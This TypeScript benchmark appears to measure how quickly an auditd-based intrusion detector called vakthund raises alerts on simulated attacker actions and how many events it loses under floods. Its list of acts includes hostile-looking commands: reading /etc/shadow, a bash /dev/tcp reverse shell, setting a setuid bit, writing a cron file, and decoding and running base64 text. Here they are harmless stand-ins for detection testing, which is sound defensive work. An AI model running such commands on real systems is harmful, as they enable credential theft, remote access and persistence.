import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { sensor } from '../src/collect/sensors/audit/index.ts';
import { median, type Bench, type BenchResult } from './bench.ts';
import { floods } from './data/floods.ts';

const root = fileURLToPath(new URL('..', import.meta.url));
const main = join(root, 'src/cli/main.ts');
/** Carried by every rule that this loads, so that those and no others are taken away again. */
const ownKey = 'vakthund-bench';
const patienceMs = 20_000;
const startMs = 120_000;

/** Acts of an intruder that do no harm, and what must be told of each. */
const acts: readonly (readonly [name: string, command: string, detector: RegExp])[] = [
  ['password hashes read', 'cat /etc/shadow > /dev/null', /shadow|hashes/i],
  ['reverse shell', "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'", /shell/i],
  ['set-user-id bit', 'chmod u+s "$BENCH/program"', /set-?u(?:ser-)?id/i],
  ['cron file', 'echo "# bench" > /etc/cron.d/vakthund-bench; rm /etc/cron.d/vakthund-bench', /cron/i],
  [
    'run from a folder for all',
    'cp /bin/true /dev/shm/vakthund-bench; /dev/shm/vakthund-bench; rm /dev/shm/vakthund-bench',
    /anybody may write/i,
  ],
  ['decoded and run', "sh -c 'echo dHJ1ZQo= | base64 -d | sh'", /decode/i],
];

/** How long after an act its alert is told, and what becomes of floods of events: seen, or counted as lost. */
export const bench: Bench = {
  id: 'watch-live',
  async run(): Promise<readonly BenchResult[]> {
    const why = (await sensor.whyNot()) ?? whyNotLoaded();
    if (why !== undefined) {
      process.stderr.write(`watch-live is skipped: ${why}\n`);
      return [];
    }
    const folder = mkdtempSync(join(tmpdir(), 'vakthund-live-'));
    const wasOn = spawnSync('auditctl', ['-s'], { encoding: 'utf8' }).stdout.includes('enabled 1');
    try {
      loadRules(folder);
      return [...(await latencies(folder)), ...(await floodLosses(folder))];
    } finally {
      spawnSync('auditctl', ['-D', '-k', ownKey]);
      if (!wasOn) spawnSync('auditctl', ['-e', '0']);
      rmSync(folder, { recursive: true, force: true });
    }
  },
};

function whyNotLoaded(): string | undefined {
  const { status, stdout } = spawnSync('auditctl', ['-l'], { encoding: 'utf8' });
  if (status !== 0) return 'auditctl cannot be run';
  return stdout.trim() === 'No rules' ? undefined : 'this machine has audit rules of its own';
}

function loadRules(folder: string): void {
  const file = join(folder, 'bench.rules');
  const shipped = readFileSync(join(root, 'content/audit-rules/vakthund.rules'), 'utf8').split('\n');
  const own = shipped.map((line) => (/^-[aw] /.test(line) ? `${line} -k ${ownKey}` : line));
  mkdirSync(join(folder, 'opened'));
  const opens = `-a always,exit -F arch=b64 -S open,openat -F dir=${join(folder, 'opened')} -k opened -k ${ownKey}`;
  writeFileSync(file, [...own, opens, ''].join('\n'));
  spawnSync('auditctl', ['-R', file]);
  spawnSync('auditctl', ['-e', '1']);
}

interface Watching {
  readonly child: ChildProcess;
  /** Everything told, with the time at which it was. */
  readonly told: { readonly at: number; readonly notice: Readonly<Record<string, unknown>> }[];
  until(isThere: () => boolean, forMs?: number): Promise<boolean>;
}

async function startWatch(folder: string, name: string): Promise<Watching> {
  const args = [
    'watch',
    '--sensor',
    'audit',
    '--case',
    join(folder, name),
    '--json',
    '--quiet',
    '--repeat-window',
    '1',
  ];
  const child = spawn(process.execPath, [main, ...args], { stdio: ['ignore', 'pipe', 'ignore'] });
  const told: Watching['told'] = [];
  createInterface({ input: child.stdout }).on('line', (line) => {
    told.push({ at: Date.now(), notice: JSON.parse(line) as Record<string, unknown> });
  });
  const until = async (isThere: () => boolean, forMs = patienceMs): Promise<boolean> => {
    for (const end = Date.now() + forMs; Date.now() < end; await sleep(20)) if (isThere()) return true;
    return false;
  };
  const isJudged = (): boolean => told.some(({ notice }) => notice['type'] === 'status');
  if (await until(isJudged, startMs)) return { child, told, until };
  child.kill('SIGKILL');
  throw new Error('the watch does not start');
}

async function stopWatch({ child }: Watching): Promise<void> {
  child.kill('SIGTERM');
  await new Promise((done) => child.once('exit', done));
}

async function latencies(folder: string): Promise<BenchResult[]> {
  copyFileSync('/bin/true', join(folder, 'program'));
  const watching = await startWatch(folder, 'acts');
  const seconds: number[] = [];
  let missed = 0;
  for (const [name, command, detector] of acts) {
    await sleep(2500);
    const from = watching.told.length;
    const startedAt = Date.now();
    const script = 'echo 1000 > /proc/self/loginuid; exec sh -c "$0"';
    spawnSync('sh', ['-c', script, command], { env: { ...process.env, BENCH: folder }, stdio: 'ignore' });
    const find = () =>
      watching.told.slice(from).find(({ notice }) => {
        const text = `${String(notice['detector'])} ${String(notice['title'])}`;
        return notice['type'] === 'alert' && detector.test(text);
      });
    await watching.until(() => find() !== undefined);
    const found = find();
    if (found === undefined) missed++;
    else seconds.push((found.at - startedAt) / 1000);
    process.stderr.write(`${name}: ${found === undefined ? 'not told' : `${(found.at - startedAt) / 1000} s`}\n`);
  }
  await stopWatch(watching);
  return [
    { id: 'watch-live/act to alert', value: median(seconds), unit: 's', cpu_s: 0, runs: seconds.length },
    { id: 'watch-live/slowest alert', value: Math.max(...seconds), unit: 's', cpu_s: 0, runs: seconds.length },
    { id: 'watch-live/acts not told', value: missed, unit: 'acts', cpu_s: 0, runs: acts.length },
  ];
}

async function floodLosses(folder: string): Promise<BenchResult[]> {
  const results: BenchResult[] = [];
  for (const { id, kind, condition, run } of floods(folder)) {
    const watching = await startWatch(folder, id);
    const { made, seconds } = run();
    const seen = await seenOf(folder, id, kind, condition, made);
    const lost = watching.told
      .filter(({ notice }) => notice['type'] === 'sensor' && notice['state'] === 'lost')
      .reduce((sum, { notice }) => sum + Number(notice['count'] ?? 0), 0);
    await stopWatch(watching);
    const result = (what: string, value: number, unit: string): BenchResult => {
      return { id: `watch-live/${id} ${what}`, value, unit, cpu_s: 0, runs: 1 };
    };
    results.push(result('made', made / seconds, 'events/s'), result('unseen', made - seen, `of ${made} events`));
    results.push(result('told as lost', lost, 'records'));
  }
  return results;
}

/** Events in the case, once no more come. */
async function seenOf(folder: string, name: string, kind: string, condition: string, made: number): Promise<number> {
  let seen = 0;
  for (let idle = 0; idle < 4 && seen < made;) {
    await sleep(2000);
    const args = [main, 'hunt', `SELECT count(*) AS n FROM ${kind} WHERE ${condition}`, '--case', join(folder, name)];
    const { stdout } = spawnSync(process.execPath, [...args, '--format', 'csv'], { encoding: 'utf8' });
    const now = Number(stdout.trim().split(/\r?\n/).at(-1));
    idle = now === seen ? idle + 1 : 0;
    seen = now;
  }
  return seen;
}
